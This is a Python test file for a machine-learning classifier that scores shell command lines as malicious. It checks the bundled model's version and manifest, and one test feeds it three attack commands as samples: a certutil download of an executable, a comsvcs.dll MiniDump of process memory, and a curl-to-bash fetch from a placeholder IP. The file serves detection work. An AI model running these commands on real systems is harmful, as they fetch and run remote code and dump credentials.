from __future__ import annotations

import numpy as np
import pyarrow as pa

from cmdclf.classify import Scorer, verify_model
from cmdclf.features import FEATURE_VERSION, load_embedder
from cmdclf.resources import data_path

MODEL = data_path("model")


def test_the_bundled_model_is_whole_and_fits_this_version():
    verify_model(MODEL)
    manifest = Scorer.load(MODEL).manifest
    assert manifest["feature_version"] == FEATURE_VERSION
    assert manifest["embedder"]["name"] == load_embedder().name


def test_the_bundled_model_was_measured_on_sources_that_it_never_saw():
    manifest = Scorer.load(MODEL).manifest
    held, trained = set(manifest["metrics"]["held_out"]), set(manifest["provenance"]["sources"])
    # The figures are of a first model; the one that is shipped learned from those sources, too, and says so.
    assert held
    assert bool(held & trained) == manifest["provenance"]["trained_on_the_test_too"]
    lo, hi = manifest["metrics"]["auc_ci95"]
    assert lo <= manifest["metrics"]["auc"] <= hi


def test_the_bundled_model_ranks_plain_attacks_above_plain_work():
    attacks = [
        "certutil -urlcache -split -f http://192.0.2.7/a.exe C:\\Users\\Public\\a.exe",
        "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 612 C:\\Temp\\l.dmp full",
        "curl -s http://198.51.100.7/x.sh | bash",
    ]
    work = ["apt-get install -y nginx", "ls -la /home", "git status --short", "tar xzf release.tar.gz"]
    platform = ["windows", "windows", "linux", *["linux"] * 4]
    batch = pa.record_batch({"platform": platform, "command_line": attacks + work})
    scores = Scorer.load(MODEL).score(batch).column("score").to_numpy()
    assert np.min(scores[:3]) > np.max(scores[3:])
